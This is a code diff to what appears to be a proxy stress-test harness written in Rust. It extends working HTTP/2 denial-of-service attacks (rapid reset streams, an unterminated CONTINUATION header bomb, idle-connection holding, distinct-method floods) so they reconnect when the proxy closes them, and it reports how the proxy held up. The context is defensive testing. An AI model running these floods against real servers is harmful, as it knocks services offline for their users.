@@ -47,6 +47,13 @@ const FRAME_PAYLOAD: usize = 16 << 10;
 /// Calls of the `methods` attack in flight at once.
 const METHODS_IN_FLIGHT: usize = 64;
 
+/// An idle connection older than this at the window's end has outlived
+/// the mesh's edge preface timeout (5 s) with a second to spare.
+const IDLE_OLD: Duration = Duration::from_secs(6);
+
+/// Connections one attack opens at most (the reconnecting attacks).
+const MAX_ATTACK_CONNECTIONS: usize = 10_000;
+
 /// Longest an attack's clean-up (closing its sockets, joining its tasks)
 /// may take after the window.
 const CLEANUP: Duration = Duration::from_secs(5);
@@ -363,7 +370,7 @@ async fn idle(target: SocketAddr, count: usize, window: Duration) -> anyhow::Res
             match std::net::TcpStream::connect_timeout(&target, Duration::from_secs(1)) {
                 Ok(stream) => {
                     if stream.set_nonblocking(true).is_ok() {
-                        held.push(stream);
+                        held.push((Instant::now(), stream));
                     }
                 }
                 Err(_) => refused += 1,
@@ -374,12 +381,21 @@ async fn idle(target: SocketAddr, count: usize, window: Duration) -> anyhow::Res
         while Instant::now() < deadline && !crate::stopping() {
             std::thread::sleep(Duration::from_millis(50));
         }
-        let open = held.iter_mut().map(still_open).filter(|open| *open).count();
+        let ended = Instant::now();
+        let (mut open, mut old_open) = (0usize, 0usize);
+        for (connected, stream) in &mut held {
+            if still_open(stream) {
+                open += 1;
+                old_open += usize::from(ended.duration_since(*connected) > IDLE_OLD);
+            }
+        }
         AttackOutcome {
             held: open,
             detail: format!(
-                "{opened} of {count} connected ({refused} connects failed), {} closed by the proxy",
-                opened - open
+                "{opened} of {count} connected ({refused} connects failed), {} closed by the proxy; \
+                 of those connected over {} s before the end, {old_open} still open",
+                opened - open,
+                IDLE_OLD.as_secs()
             ),
         }
     })
@@ -437,112 +453,132 @@ async fn h2_raw(
 }
 
 /// Streams opened and reset in batches of 100 on one connection, as fast
-/// as the proxy takes them, until `max` streams, the window's end, or the
-/// proxy closes the connection.
+/// as the proxy takes them; when the proxy closes it, again on a new one;
+/// until `max` streams or the window's end.
 async fn rapid_reset(
     target: SocketAddr,
     max: u32,
     window: Duration,
 ) -> anyhow::Result<AttackOutcome> {
     let started = Instant::now();
-    let (mut writer, draining) = h2_raw(target).await?;
     let block = request_headers(&target.to_string(), "/bench.v1.EchoService/Echo");
-    let mut stream = 1u32;
     let mut opened = 0u32;
-    let mut closed_after = None;
-    while opened < max && started.elapsed() < window && !crate::stopping() {
-        let mut batch = Vec::with_capacity(100 * (block.len() + 30));
-        for _ in 0..100 {
-            batch.extend(frame(0x1, 0x4, stream, &block)); // HEADERS, END_HEADERS
-            batch.extend(frame(0x3, 0, stream, &8u32.to_be_bytes())); // RST_STREAM CANCEL
-            stream += 2;
-            opened += 1;
-        }
-        let left = window.saturating_sub(started.elapsed());
-        let written = tokio::time::timeout(left, writer.write_all(&batch)).await;
-        if !matches!(written, Ok(Ok(()))) || draining.is_finished() {
-            if draining.is_finished() || matches!(written, Ok(Err(_))) {
-                closed_after = Some(started.elapsed());
+    let mut per_connection = Vec::new();
+    let mut held = 0;
+    while opened < max
+        && per_connection.len() < MAX_ATTACK_CONNECTIONS
+        && started.elapsed() < window
+        && !crate::stopping()
+    {
+        let Ok((mut writer, draining)) = h2_raw(target).await else {
+            break;
+        };
+        let mut stream = 1u32;
+        let mut on_this = 0u32;
+        while opened < max && started.elapsed() < window && !draining.is_finished() {
+            let mut batch = Vec::with_capacity(100 * (block.len() + 30));
+            for _ in 0..100 {
+                batch.extend(frame(0x1, 0x4, stream, &block)); // HEADERS, END_HEADERS
+                batch.extend(frame(0x3, 0, stream, &8u32.to_be_bytes())); // RST_STREAM CANCEL
+                stream += 2;
             }
+            let left = window.saturating_sub(started.elapsed());
+            match tokio::time::timeout(left, writer.write_all(&batch)).await {
+                Ok(Ok(())) => {
+                    opened += 100;
+                    on_this += 100;
+                }
+                Ok(Err(_)) | Err(_) => break,
+            }
+        }
+        per_connection.push(on_this);
+        // Did the proxy close it? Give it until the window ends to say so.
+        let left = window.saturating_sub(started.elapsed());
+        let closed = until_closed(&draining, left).await;
+        draining.abort();
+        if !closed {
+            held = 1;
             break;
         }
     }
-    let left = window.saturating_sub(started.elapsed());
-    let closed = tokio::time::timeout(left, async {
+    Ok(AttackOutcome {
+        held,
+        detail: format!(
+            "{opened} streams sent on {} connections, {} closed by the proxy (median {} streams each)",
+            per_connection.len(),
+            per_connection.len() - held,
+            median(&mut per_connection)
+        ),
+    })
+}
+
+/// Waits up to `left` for the proxy to close the connection `draining`
+/// reads; true if it did.
+async fn until_closed(draining: &tokio::task::JoinHandle<()>, left: Duration) -> bool {
+    tokio::time::timeout(left, async {
+        // Bounded by the timeout around it.
         while !draining.is_finished() {
             tokio::time::sleep(Duration::from_millis(20)).await;
         }
     })
     .await
-    .is_ok();
-    if closed && closed_after.is_none() {
-        closed_after = Some(started.elapsed());
-    }
-    draining.abort();
-    Ok(AttackOutcome {
-        held: usize::from(!closed),
-        detail: match closed_after {
-            Some(at) => format!(
-                "{opened} streams sent, connection closed by the proxy after {:.1} s",
-                at.as_secs_f64()
-            ),
-            None => format!("{opened} streams sent, connection still open"),
-        },
-    })
+    .is_ok()
+}
+
+fn median(values: &mut [u32]) -> u32 {
+    values.sort_unstable();
+    values.get(values.len() / 2).copied().unwrap_or(0)
 }
 
 /// One header block of `bytes` bytes (a HEADERS frame without END_HEADERS,
-/// then CONTINUATION frames, none of which ends it) on one connection,
-/// until it is all sent, the window ends, or the proxy closes.
+/// then CONTINUATION frames, none of which ends it) on one connection;
+/// when the proxy closes it, again on a new one; until the window ends.
 async fn continuation(
     target: SocketAddr,
     bytes: usize,
     window: Duration,
 ) -> anyhow::Result<AttackOutcome> {
     let started = Instant::now();
-    let (mut writer, draining) = h2_raw(target).await?;
     let block = literal_header(b"x-bomb", &vec![b'a'; bytes]);
-    let mut sent = 0usize;
-    let mut closed_after = None;
-    for (i, chunk) in block.chunks(FRAME_PAYLOAD).enumerate() {
-        if started.elapsed() >= window || crate::stopping() {
+    let mut per_connection = Vec::new();
+    let mut held = 0;
+    while per_connection.len() < MAX_ATTACK_CONNECTIONS
+        && started.elapsed() < window
+        && !crate::stopping()
+    {
+        let Ok((mut writer, draining)) = h2_raw(target).await else {
             break;
-        }
-        // HEADERS first, then CONTINUATION; no END_HEADERS on any.
-        let kind = if i == 0 { 0x1 } else { 0x9 };
-        let left = window.saturating_sub(started.elapsed());
-        match tokio::time::timeout(left, writer.write_all(&frame(kind, 0, 1, chunk))).await {
-            Ok(Ok(())) => sent += chunk.len(),
-            Ok(Err(_)) => {
-                closed_after = Some(started.elapsed());
+        };
+        let mut sent = 0usize;
+        for (i, chunk) in block.chunks(FRAME_PAYLOAD).enumerate() {
+            if started.elapsed() >= window || draining.is_finished() {
                 break;
             }
-            // The proxy stopped reading and kept the connection: held.
-            Err(_) => break,
+            // HEADERS first, then CONTINUATION; no END_HEADERS on any.
+            let kind = if i == 0 { 0x1 } else { 0x9 };
+            let left = window.saturating_sub(started.elapsed());
+            match tokio::time::timeout(left, writer.write_all(&frame(kind, 0, 1, chunk))).await {
+                Ok(Ok(())) => sent += chunk.len(),
+                Ok(Err(_)) | Err(_) => break,
+            }
+        }
+        per_connection.push(u32::try_from(sent >> 10).unwrap_or(u32::MAX));
+        let left = window.saturating_sub(started.elapsed());
+        let closed = until_closed(&draining, left).await;
+        draining.abort();
+        if !closed {
+            held = 1;
+            break;
         }
     }
-    let left = window.saturating_sub(started.elapsed());
-    let closed = tokio::time::timeout(left, async {
-        while !draining.is_finished() {
-            tokio::time::sleep(Duration::from_millis(20)).await;
-        }
-    })
-    .await
-    .is_ok();
-    if closed && closed_after.is_none() {
-        closed_after = Some(started.elapsed());
-    }
-    draining.abort();
-    let kib = sent >> 10;
     Ok(AttackOutcome {
-        held: usize::from(!closed),
-        detail: match closed_after {
-            Some(at) => format!(
-                "{kib} KiB of header block taken, connection closed by the proxy after {:.1} s",
-                at.as_secs_f64()
-            ),
-            None => format!("{kib} KiB of header block taken, connection still open"),
-        },
+        held,
+        detail: format!(
+            "{} connections, {} closed by the proxy, median {} KiB of header block written on each",
+            per_connection.len(),
+            per_connection.len() - held,
+            median(&mut per_connection)
+        ),
     })
 }
 
@@ -555,9 +591,10 @@ async fn methods(
     window: Duration,
 ) -> anyhow::Result<AttackOutcome> {
     let started = Instant::now();
-    let connection = crate::client::connect(target)
+    let mut connection = crate::client::connect(target)
         .await
         .context("the attacker's connection")?;
+    let mut connections = 1usize;
     let mut calls = tokio::task::JoinSet::new();
     let (mut sent, mut answered, mut failed) = (0usize, 0usize, 0usize);
     let mut tally = |done: Result<bool, tokio::task::JoinError>| match done {
@@ -565,6 +602,13 @@ async fn methods(
         _ => failed += 1,
     };
     while sent < max && started.elapsed() < window && !crate::stopping() {
+        if connection.is_closed() && connections < MAX_ATTACK_CONNECTIONS {
+            // The proxy closed it: the attacker comes back.
+            if let Ok(fresh) = crate::client::connect(target).await {
+                connection = fresh;
+                connections += 1;
+            }
+        }
         while calls.len() < METHODS_IN_FLIGHT && sent < max {
             let path = if sent % 10 == 0 {
                 format!("/bench.v1.EchoService/Nope{sent}")
@@ -608,7 +652,8 @@ async fn methods(
     Ok(AttackOutcome {
         held,
         detail: format!(
-            "{sent} calls to distinct methods in {:.1} s, {answered} answered, {failed} failed",
+            "{sent} calls to distinct methods in {:.1} s on {connections} connections, \
+             {answered} answered, {failed} failed",
             started.elapsed().as_secs_f64()
         ),
     })
